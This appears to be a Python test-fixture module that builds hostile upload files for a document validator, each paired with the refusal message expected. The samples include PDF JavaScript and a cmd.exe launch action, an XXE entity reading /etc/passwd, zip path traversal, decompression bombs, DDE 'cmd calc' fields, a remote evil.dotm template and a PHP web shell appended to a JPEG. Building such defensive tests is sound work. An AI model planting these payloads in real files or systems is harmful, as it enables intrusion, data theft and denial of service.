"""Files that mean harm, or are not what they say: each a name, a content, and a word of the refusal it must meet."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.office.documents import good

Case = tuple[str, bytes, str]
HTML = b"<html><script>alert(1)</script></html>"
BOMB = b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
PE = b"MZ\x90\0" + b"\0" * 200 + b"PE\0\0"


def all_cases() -> Iterator[Case]:
    """Every hostile file."""
    yield from false_names()
    yield from hostile_pdfs()
    yield from hostile_archives()
    yield from hostile_office()
    yield from hostile_ofd()
    yield from hostile_images()


def false_names() -> Iterator[Case]:
    """Kinds that are not taken, and contents that are not what the name says."""
    for name in (
        "a.exe",
        "a.html",
        "a.svg",
        "a.docm",
        "a.xlsm",
        "a.doc",
        "a.zip",
        "a.gif",
        "a.pdf.js",
        "附件",
        "a.pdf\u202e.exe",
    ):
        yield name, good.pdf(), "不接收"
    yield "empty.pdf", b"", "0 字节"
    yield "huge.pdf", b"%PDF-1.7\n" + b"x" * (20 * 1024 * 1024), "上限"
    yield "html.pdf", HTML, "不是 PDF"
    yield "png.pdf", good.png(), "不是 PDF"
    yield "docx.pdf", good.docx(), "不是 PDF"
    yield "pdf.png", good.pdf(), "不是 PNG"
    yield "jpg.png", good.jpg(), "不是 PNG"
    yield "png.jpg", good.png(), "不是 JPG"
    yield "html.jpg", HTML, "不是 JPG"
    yield "svg.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "不是 PNG"
    yield "gif-html.jpg", b"GIF89a/*" + HTML + b"*/=1;", "不是 JPG"
    yield "pdf.docx", good.pdf(), "Word"
    yield "xlsx.docx", good.xlsx(), "Word"
    yield "docx.xlsx", good.docx(), "Excel"
    yield "docx.ofd", good.docx(), "不允许的部件|OFD"
    yield "ofd.docx", good.ofd(), "不允许的部件|Word"
    yield "plain-zip.docx", good.zipped({"a.xml": "<a/>"}), "Word"
    yield "old-word.docx", OLE, "Word"
    yield "exe.pdf", PE, "不是 PDF"


def with_root(key: str, value: object) -> bytes:
    """A PDF whose catalogue has one more entry."""
    pdf = good.new_pdf()
    pdf.Root[key] = value
    return good.saved(pdf)


def with_annotation(**entries: Any) -> bytes:
    """A PDF with an annotation on its page."""
    pdf = good.new_pdf()
    note = Dictionary(Type=Name.Annot, Rect=[0, 0, 10, 10], **entries)
    pdf.pages[0].Annots = Array([pdf.make_indirect(note)])
    return good.saved(pdf)


def hostile_pdfs() -> Iterator[Case]:
    """PDFs that run, send, hide, are locked, are cut, or are something else as well."""
    script = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    yield "open-script.pdf", with_root("/OpenAction", script), "脚本"
    yield "names-script.pdf", with_root("/Names", Dictionary(JavaScript=Dictionary(Names=Array(["a", script])))), "脚本"
    yield "additional.pdf", with_root("/AA", Dictionary(WC=script)), "自动动作|脚本"
    yield "launch.pdf", with_root("/OpenAction", Dictionary(S=Name.Launch, F="cmd.exe")), "启动程序"
    yield "form.pdf", with_root("/AcroForm", Dictionary(XFA="<x/>", Fields=Array())), "动态表单"
    yield "submit.pdf", with_annotation(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F="https://x")), "外发"
    yield "import.pdf", with_annotation(Subtype=Name.Link, A=Dictionary(S=Name.ImportData, F="x.fdf")), "导入"
    yield "goto-embedded.pdf", with_annotation(Subtype=Name.Link, A=Dictionary(S=Name.GoToE)), "附件"
    yield "goto-remote.pdf", with_annotation(Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F="//x/y.pdf")), "其他文件"
    yield "script-link.pdf", with_annotation(Subtype=Name.Link, A=script), "脚本"
    yield (
        "next-script.pdf",
        with_annotation(Subtype=Name.Link, A=Dictionary(S=Name.GoTo, D="x", Next=Array([script]))),
        "脚本",
    )
    yield "rich.pdf", with_annotation(Subtype=Name.RichMedia), "多媒体"
    yield "movie.pdf", with_annotation(Subtype=Name.Movie), "多媒体"
    yield "screen.pdf", with_annotation(Subtype=Name.Screen), "多媒体"
    yield "3d.pdf", with_annotation(Subtype=Name("/3D")), "多媒体"
    yield "file-note.pdf", with_annotation(Subtype=Name.FileAttachment), "附件"
    pdf = good.new_pdf()
    pdf.attachments["evil.exe"] = pikepdf.AttachedFileSpec(pdf, PE, filename="evil.exe")
    yield "attached.pdf", good.saved(pdf), "附件"
    pdf = good.new_pdf()
    pdf.Root.Hidden = pdf.make_indirect(Dictionary(Deep=Array([Array([script])])))
    yield "deep.pdf", good.saved(pdf), "脚本"
    pdf = good.new_pdf()
    pdf.Root.Odd = pdf.make_stream(b"x", F="http://x/")
    yield "outside-stream.pdf", good.saved(pdf), "外部文件"
    yield "locked.pdf", good.saved(good.new_pdf(), pikepdf.Encryption(owner="a", user="b")), "密码"
    yield "restricted.pdf", good.saved(good.new_pdf(), pikepdf.Encryption(owner="a", user="")), "密码"
    yield "none.pdf", good.pdf(0), "没有任何页面"
    yield "many.pdf", good.pdf(1001), "1001 页"
    whole = good.pdf(3)
    yield "cut.pdf", whole[: len(whole) // 2], "不完整"
    yield "head-only.pdf", b"%PDF-1.7\n%%EOF\n", "不完整"
    yield "no-end.pdf", b"%PDF-1.7\nhello", "不完整"
    yield "late-head.pdf", b"\n" * 1500 + whole, "不是 PDF"
    yield "html-head.pdf", HTML + whole, "不是 PDF"
    yield "gif-head.pdf", b"GIF89a" + whole, "不是 PDF"
    yield "zip-tail.pdf", whole + good.zipped({"a.txt": "x"}), "其他数据"
    yield "html-tail.pdf", whole + HTML, "其他数据"
    sly = bytearray(good.zipped({"a.txt": "x"}))
    sly[-2:] = struct.pack("<H", 6)
    yield "zip-comment.pdf", whole + bytes(sly) + b"%%EOF\n", "压缩包"
    yield (
        "nested.pdf",
        whole.replace(b"/Type /Catalog", b"/Type /Catalog /X " + b"[" * 9000 + b"]" * 9000),
        "不完整|安全检查",
    )


def changed_docx(changes: Mapping[str, bytes | str]) -> bytes:
    """A Word file with parts added or replaced."""
    return good.zipped({**good.docx_parts(), **changes})


def hostile_archives() -> Iterator[Case]:
    """Zip archives that lead out, blow up, hide, or break."""
    for name in (
        "../../etc/cron.xml",
        "/etc/a.xml",
        "..\\..\\a.xml",
        "C:/a.xml",
        "word/a\nb.xml",
        "word/" + "a" * 300 + ".xml",
    ):
        yield f"path-{zlib.crc32(name.encode())}.docx", changed_docx({name: "<a/>"}), "路径"
    yield "bomb-ratio.docx", changed_docx({"word/a.xml": b"<a>" + b" " * 30_000_000 + b"</a>"}), "过大"
    yield "bomb-size.xlsx", size_bomb(), "过大"
    yield "bomb-lie.docx", lying_bomb(), "完整|损坏"
    yield "many.docx", changed_docx({f"word/p{n}.xml": "<a/>" for n in range(2001)}), "2000 个"
    yield "twice.docx", twice(), "重名"
    yield "case.docx", changed_docx({"WORD/document.xml": "<a/>"}), "重名"
    yield "front.docx", b"#!/bin/sh\n" + good.docx(), "首尾"
    yield "back.docx", good.docx() + HTML, "首尾"
    yield "comment.docx", commented(), "首尾"
    yield "link.docx", linked(), "链接"
    yield "lzma.docx", good.zipped(good.docx_parts(), packing=zipfile.ZIP_LZMA), "压缩方式"
    yield "locked.docx", flagged(), "密码"
    broken = bytearray(good.docx())
    broken[60:90] = b"\xff" * 30
    yield "broken.docx", bytes(broken), "完整|损坏"
    yield "cut.docx", good.docx()[:-40], "完整"


def size_bomb() -> bytes:
    """More than 200 MB when unpacked, with a claimed ratio that would pass: noise beside blanks."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", good.content_types(good.SHEET, "/xl/workbook.xml"))
        for number in range(11):
            archive.writestr(f"xl/worksheets/sheet{number}.xml", b"<a>" + b" " * 20_000_000 + b"</a>")
    return out.getvalue()


def lying_bomb() -> bytes:
    """A member that claims to be small."""
    data = bytearray(changed_docx({"word/a.xml": b"<a>" + b" " * 3_000_000 + b"</a>"}))
    size = struct.pack("<I", 3_000_007)
    return bytes(data.replace(size, struct.pack("<I", 200)))


def twice() -> bytes:
    """The same name twice: readers differ in which one they take."""
    data = changed_docx({"word/documenT.xml": "<a/>"})
    return data.replace(b"word/documenT.xml", b"word/document.xml")


def commented() -> bytes:
    """An archive with a comment, in which anything can hide."""
    out = io.BytesIO(good.docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.comment = HTML
    return out.getvalue()


def linked() -> bytes:
    """A member that is a symbolic link."""
    out = io.BytesIO(good.docx())
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo("word/link.xml")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def flagged() -> bytes:
    """Members marked as encrypted."""
    data = bytearray(good.docx())
    at = -1
    while (at := data.find(b"PK\x01\x02", at + 1)) >= 0:
        data[at + 8] |= 1
    return bytes(data)


def hostile_office() -> Iterator[Case]:
    """Office files that run, embed, reach out, or carry a document type."""
    macro = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    yield "macro-part.docx", changed_docx({"word/vbaProject.bin": OLE}), "宏"
    yield "macro-type.docx", good.zipped(good.docx_parts(extra_types=macro)), "宏"
    enabled = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield "docm.docx", changed_docx({"[Content_Types].xml": good.content_types(enabled, "/word/document.xml")}), "宏"
    sheet = '<Override PartName="/xl/m.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
    yield (
        "macro4.xlsx",
        good.zipped(
            {**good.xlsx_parts(), "[Content_Types].xml": good.content_types(good.SHEET, "/xl/workbook.xml", sheet)}
        ),
        "宏",
    )
    yield "ole.docx", changed_docx({"word/embeddings/oleObject1.bin": OLE}), "嵌入对象"
    yield "embedded.docx", changed_docx({"word/embeddings/a.xlsx": good.xlsx()}), "嵌入对象"
    yield "activex.docx", changed_docx({"word/activeX/activeX1.xml": "<a/>"}), "嵌入对象"
    yield "exe.docx", changed_docx({"word/a.exe": PE}), "部件"
    yield "js.docx", changed_docx({"word/a.js": "x"}), "部件"
    yield "exe-as-png.docx", changed_docx({"word/media/a.png": PE}), "嵌有"
    yield "ole-as-xml.docx", changed_docx({"word/a.xml": OLE}), "嵌有"
    yield "zip-as-png.docx", changed_docx({"word/media/a.png": good.docx()}), "嵌有"
    yield "script-as-jpg.docx", changed_docx({"word/media/a.jpg": b"#!/bin/sh\n"}), "嵌有"
    yield "html-as-png.docx", changed_docx({"word/media/a.png": b"<!DOCTYPE html>" + HTML}), "名不副实"
    yield "dtd.docx", changed_docx({"word/document.xml": BOMB}), "DOCTYPE"
    yield "dtd-types.docx", changed_docx({"[Content_Types].xml": BOMB}), "DOCTYPE"
    yield "dtd-rels.docx", changed_docx({"word/_rels/document.xml.rels": BOMB}), "DOCTYPE"
    wide = BOMB.decode().replace("version='1.0'", "version='1.0' encoding='utf-16'").encode("utf-16")
    yield "dtd-utf16.docx", changed_docx({"word/styles.xml": wide}), "DOCTYPE"
    yield "dtd-workbook.xlsx", good.zipped({**good.xlsx_parts(), "xl/workbook.xml": BOMB}), "DOCTYPE"
    yield "broken-xml.docx", changed_docx({"word/document.xml": "<a><b></a>"}), "XML"
    template = good.relations(good.relation("attachedTemplate", "https://x/evil.dotm", outside=True))
    yield "template.docx", changed_docx({"word/_rels/settings.xml.rels": template}), "外部文件"
    image = good.relations(good.relation("image", "//x/share/a.png", outside=True))
    yield "image-outside.docx", changed_docx({"word/_rels/document.xml.rels": image}), "外部文件"
    click = good.relations(good.relation("hyperlink", "javascript:alert(1)", outside=True))
    yield "script-link.docx", changed_docx({"word/_rels/document.xml.rels": click}), "超链接"
    share = good.relations(good.relation("hyperlink", "file:////x/share/a.exe", outside=True))
    yield "share-link.docx", changed_docx({"word/_rels/document.xml.rels": share}), "超链接"
    split = "<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd /k calc</w:instrText></w:r></w:p>"
    yield "dde.docx", good.zipped(good.docx_parts(split)), "DDE"
    yield "dde-simple.docx", good.zipped(good.docx_parts('<w:fldSimple w:instr="DDE cmd calc"/>')), "DDE"
    yield "chunk.docx", good.zipped(good.docx_parts("<w:altChunk/>")), "嵌入对象"
    dde = f'<externalLink xmlns="{good.S}"><ddeLink ddeService="cmd" ddeTopic="calc"/></externalLink>'
    yield "dde.xlsx", good.zipped({**good.xlsx_parts(), "xl/externalLinks/externalLink1.xml": dde}), "嵌入对象"
    svg = "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
    yield "svg-script.docx", changed_docx({"word/media/a.svg": svg}), "嵌入对象"
    yield "no-main.docx", good.zipped({k: v for k, v in good.docx_parts().items() if k != "word/document.xml"}), "Word"


def hostile_ofd() -> Iterator[Case]:
    """OFD files that are not, or carry more than they should."""
    yield "no-entry.ofd", good.zipped({"Doc_0/Document.xml": "<a/>"}), "OFD"
    yield "other-root.ofd", good.zipped({**good.ofd_parts(), "OFD.xml": "<a/>"}), "OFD"
    yield "dtd.ofd", good.zipped({**good.ofd_parts(), "Doc_0/Document.xml": BOMB}), "DOCTYPE"
    yield "exe.ofd", good.zipped({**good.ofd_parts(), "Doc_0/Res/a.dat": PE}), "嵌有"
    yield "attached.ofd", good.zipped({**good.ofd_parts(), "Doc_0/Attachs/a.docx": good.docx()}), "部件"
    yield "both.ofd", good.zipped({**good.ofd_parts(), **good.docx_parts()}), "部件|OFD"


def chunk(kind: bytes, data: bytes) -> bytes:
    """A PNG chunk."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def giant_png() -> bytes:
    """30,000 × 30,000 pixels in a few kilobytes."""
    lines = zlib.compressobj(9)
    rows = b"".join(lines.compress(b"\0" * 3751) for _ in range(30_000)) + lines.flush()
    header = struct.pack(">IIBBBBB", 30_000, 30_000, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def hostile_images() -> Iterator[Case]:
    """Pictures that are bombs, cut, broken, or carry something behind their end."""
    png, jpg = good.png(), good.jpg()
    yield "giant.png", giant_png(), "像素"
    yield "html-tail.png", png + HTML, "附有其他数据"
    yield "zip-tail.png", png + good.docx(), "附有其他数据"
    yield "php-tail.jpg", jpg + b"<?php system($_GET[0]); ?>", "附有其他数据"
    yield "zip-tail.jpg", jpg + good.docx(), "附有其他数据"
    yield "video-tail.jpg", jpg + b"\0\0\0\x18ftypmp42", "附有其他数据"
    yield "cut.png", png[:-20], "不完整"
    yield "cut.jpg", jpg[:-40], "不完整"
    yield "bad-crc.png", png[:40] + bytes([png[40] ^ 0xFF]) + png[41:], "损坏|安全检查"
    yield "head-only.png", png[:8], "不完整"
    yield "head-only.jpg", b"\xff\xd8\xff\xe0", "不完整"
    yield "bmp.png", b"BM" + b"\0" * 200, "不是 PNG"
    yield (
        "text-bomb.png",
        png[:33] + chunk(b"zTXt", b"a\0\0" + zlib.compress(b" " * 90_000_000)) + png[33:],
        "损坏|安全检查",
    )


MAKERS: tuple[Callable[[], Iterator[Case]], ...] = (
    false_names,
    hostile_pdfs,
    hostile_archives,
    hostile_office,
    hostile_ofd,
    hostile_images,
)
